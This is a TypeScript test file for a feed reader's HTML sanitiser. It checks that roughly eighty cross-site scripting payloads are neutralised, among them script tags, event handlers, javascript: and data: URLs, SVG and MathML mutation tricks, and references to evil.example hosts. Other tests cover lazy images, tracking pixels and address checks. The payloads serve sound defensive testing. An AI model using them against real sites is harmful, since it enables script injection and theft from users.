import { describe, expect, it } from 'vitest'
import { picturesOf, sanitiseArticle } from './feed-html.ts'
import { plainText, titleText, webAddress } from './feed-text.ts'

const base = 'https://news.example/2026/11/item.html'
const clean = (html: string) => sanitiseArticle(html, base)

/** Everything in a piece of HTML that the policy does not allow: used by the list below and by its positive control. */
function dangersIn(html: string): string[] {
  const tags = new Set(
    'p h2 h3 h4 h5 h6 strong em b i u s sub sup ul ol li blockquote pre code figure figcaption img a br hr table caption colgroup col thead tbody tfoot tr th td video audio source'.split(
      ' ',
    ),
  )
  const attributes = new Set(
    'href rel title src alt width height poster controls preload playsinline type start colspan rowspan scope span'.split(
      ' ',
    ),
  )
  const dangers: string[] = []
  const rest = html.replace(
    /<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/g,
    (_, tag: string, written: string) => {
      if (!tags.has(tag)) dangers.push(`<${tag}>`)
      for (const [, name, value = ''] of written.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)) {
        if (!attributes.has(name!)) dangers.push(name!)
        if (['href', 'src', 'poster'].includes(name!) && !/^(?:https?:\/\/|#)[^\s]+$/.test(value))
          dangers.push(`${name}=${value}`)
      }
      return ''
    },
  )
  return rest.includes('<') ? [...dangers, rest] : dangers
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" oNeRrOr="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img data-src="javascript:alert(1)">',
  '<img src="https://a.example/1.jpg" data-src="javascript:alert(1)">',
  '<img data-src="java\tscript:alert(1)">',
  '<img data-original="data:text/html,<script>alert(1)</script>">',
  '<img data-lazy-src=" javascript:alert(1)">',
  '<video data-src="javascript:alert(1)"></video>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://a/b">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" id="x" class="y" name="z">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<video poster="javascript:alert(1)" onloadstart=alert(1)><source onerror=alert(1) src=x></video>',
  '<audio src=x onerror=alert(1) autoplay>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<div id="attributes" name="cookie">x</div>',
  '<b/onmouseover=alert(1)>x</b>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)" onfocus="x">x</a>',
  '<img src="https://x.example/&quot;onerror=&quot;alert(1)" onerror=1>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<img srcset="javascript:alert(1) 1x" src=x>',
  '<a href="//evil.example" target="_blank" ping="https://evil.example">x</a>',
  '<p title="<script>alert(1)</script>">x',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<dialog open><img src=x onerror=alert(1)></dialog>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<a\u0000href="javascript:alert(1)" onclick=1>x</a>',
  '<div><div onclick=alert(1)>x</div><br></div>',
  '<p></p><<p></p>script>alert(1)<<p></p>/script>',
]

describe('sanitiseArticle', () => {
  it('knows a danger when it sees one (positive control)', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40)
    expect(payloads.filter((payload) => dangersIn(payload).length === 0)).toEqual([])
  })
  it.each(payloads)('%s', (payload) => {
    for (const html of [payload, `<p>before</p>${payload}<p>after</p>`, `<div>${payload}</div>`]) {
      expect(dangersIn(clean(html))).toEqual([])
      expect(clean(clean(html))).toBe(clean(html))
      expect(plainText(html)).not.toMatch(/^<script/)
    }
  })
  it('keeps an honest article as it is (positive control)', () => {
    const article =
      '<h2>一</h2><p>文字<strong>重</strong><em>斜</em><b>b</b><i>i</i><u>u</u><br />二</p><ul><li>甲</li></ul><ol><li>乙</li></ol><blockquote>引</blockquote><pre><code>1 &lt; 2</code></pre><hr /><table><thead><tr><th>名</th></tr></thead><tbody><tr><td colspan="2">值</td></tr></tbody></table>' +
      '<figure><img src="https://a.example/1.jpg?x=1&amp;y=2" alt="图" width="640" height="480" /><figcaption>说明</figcaption></figure><p><a href="https://a.example/" rel="noopener noreferrer">链接</a></p>'
    expect(clean(article)).toBe(article)
    expect(dangersIn(article)).toEqual([])
  })
  it('promotes the real picture of a lazy one before the check', () => {
    expect(clean('<img src="data:image/gif;base64,R0lGOD" data-src="/big.jpg">')).toBe(
      '<img src="https://news.example/big.jpg" alt="" />',
    )
    expect(clean('<img src="https://a.example/small.jpg" data-src="javascript:alert(1)">')).toBe(
      '<img src="https://a.example/small.jpg" alt="" />',
    )
  })
  it.each([
    ['any attribute', '<img src="/img/loading.gif" data-hi-res="/big.jpg">'],
    ['any attribute, where a class says so', '<img class="lazy" src="/s.png" data-x="/big.jpg">'],
    ['Discuz', '<img src="/static/image/common/none.gif" zoomfile="/big.jpg" file="/big.jpg">'],
    ['no src at all', '<img data-url="//news.example/big.jpg">'],
    ['srcset', '<img src="data:image/gif;base64,R0lGOD" srcset="/small.jpg 300w, /big.jpg 1200w, /middle.jpg 600w">'],
    ['data-srcset', '<img src="/blank.gif" data-srcset="/small.jpg 1x,/big.jpg 2x">'],
    [
      'picture',
      '<picture><source srcset="/big.avif" type="image/avif"><source data-srcset="/big.jpg 2x"><img></picture>',
    ],
    ['picture without img', '<picture><source srcset="/big.jpg"></picture>'],
    ['noscript after it', '<a><img src="/placeholder.png"></a><noscript><img src="/big.jpg"></noscript>'],
    ['noscript that says it twice', '<img data-src="/big.jpg"><noscript><img src="/small.jpg"></noscript>'],
    ['noscript alone', '<noscript><img src="/big.jpg"></noscript>'],
    ['a pixel that comes late', '<img width="1" height="1" src="/1x1.png" data-src="/big.jpg">'],
  ])('finds the picture that loads late: %s', (_, html) => {
    expect(clean(html).match(/<img [^>]*>/g)).toEqual(['<img src="https://news.example/big.jpg" alt="" />'])
  })
  it('never shows what only stands in the place of a picture', () => {
    for (const name of ['loading.gif', 'img-placeholder_300x200.png', '1x1.gif', 'grey.gif', 'blank2.png?v=1'])
      expect(clean(`文<img src="/i/${name}">`)).toBe('<p>文</p>')
    expect(clean('<img src="/loading-dock.jpg"><img src="/grey/heron.png">')).toMatch(/loading-dock.*heron/)
    expect(clean('<noscript><img height="1" width="1" src="https://t.example/tr?id=1"></noscript>文')).toBe('<p>文</p>')
  })
  it('keeps a sign that is no tag', () => {
    expect(clean('若 a<b 则停 <b>重</b>')).toBe('若 a&lt;b 则停 <b>重</b>')
    expect(clean('<p title="a<b">文</p>')).toBe('<p>文</p>')
    expect(clean('<p>文字</p><a href="https://cut.exam')).toBe('<p>文字</p>')
    expect(titleText('当 x<y 时')).toBe('当 x<y 时')
    expect(plainText('x<y &amp; z')).toBe('x<y & z')
  })
  it('leaves a note in the article', () =>
    expect(clean('<a href="#note">1</a>')).toBe('<a href="#note" rel="noopener noreferrer">1</a>'))
  it('resolves relative addresses against the item', () => {
    expect(clean('<a href="../12/x.html">x</a><img src="//cdn.example/a.png">')).toBe(
      '<a href="https://news.example/2026/12/x.html" rel="noopener noreferrer">x</a><img src="https://cdn.example/a.png" alt="" />',
    )
    expect(sanitiseArticle('<a href="/x">x</a><img src="/y.png">z', '')).toBe('<p>xz</p>')
  })
  it('leaves tracking pixels out', () => {
    expect(clean('a<img src="https://t.example/p.gif" width="1" height="1">')).toBe('<p>a</p>')
    expect(clean('a<img src="https://t.example/p.gif" style="height: 1px">')).toBe('<p>a</p>')
    expect(clean('a<img src="https://t.example/p.gif" style="display:none">')).toBe('<p>a</p>')
    expect(clean('<img src="https://t.example/p.gif" width="100" height="10">')).toContain('p.gif')
  })
  it('drops scripts, styles and frames with their content, and unwraps what only surrounds text', () => {
    expect(clean('<form><p>文</p></form><style>p{}</style><iframe>x</iframe><font color=red>红</font>')).toBe(
      '<p>文</p> 红',
    )
    expect(clean('<h1>大</h1><section><p>文</p></section>')).toBe('<h2>大</h2> <p>文</p>')
    expect(clean('<div>一</div><div>二</div>三')).toBe('一<br />二<br />三')
  })
  it('makes paragraphs of plain text', () =>
    expect(clean('第一段\n第二行\n\n第二段 1 < 2')).toBe('<p>第一段<br />第二行</p><p>第二段 1 &lt; 2</p>'))
  it('plays media only on demand', () =>
    expect(clean('<video src="/v.mp4" autoplay poster="/p.jpg"></video>')).toBe(
      '<video src="https://news.example/v.mp4" poster="https://news.example/p.jpg" controls playsinline preload="none"></video>',
    ))
  it('lists the pictures', () =>
    expect(picturesOf(clean('<img src="/1.jpg?a=1&b=2"><img src="/1.jpg?a=1&b=2"><img src="/2.jpg">'))).toEqual([
      'https://news.example/1.jpg?a=1&b=2',
      'https://news.example/2.jpg',
    ]))
  it('takes hostile sizes in its stride', () => {
    const start = performance.now()
    for (const piece of [
      '<b>',
      '<div>',
      '<br />',
      '<br',
      '<img ',
      '<!--',
      '<p> ',
      '<a href="',
      ' ',
      '&',
      '<svg>',
      '<td colspan=9>',
      '</div> ',
      '<picture>',
      '<noscript>',
      '<img "',
      "<b '",
      '<noscript></noscript>',
      '<img a="<',
    ])
      expect(dangersIn(clean(`${piece.repeat(50_000)}x`))).toEqual([])
    expect(performance.now() - start).toBeLessThan(25_000)
  }, 30_000)
})

describe('texts and addresses', () => {
  it('plain text', () =>
    expect(plainText('<p>甲&amp;乙</p><p>A &lt;b&gt;&nbsp;&hellip;</p><script>x</script>')).toBe('甲&乙 A <b> …'))
  it('titles keep what only looks like a tag', () =>
    expect(titleText('<b>Vector</b><int> &amp; 1 < 2')).toBe('Vector<int> & 1 < 2'))
  it('titles lose scripts', () => expect(titleText('<script>alert(1)</script>题')).toBe('题'))
  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'ftp://a/b',
    'https://user:pass@a.example/',
    'not an address',
    '',
    `https://a.example/${'x'.repeat(3000)}`,
  ])('no address: %s', (written) => expect(webAddress(written, '')).toBe(''))
})
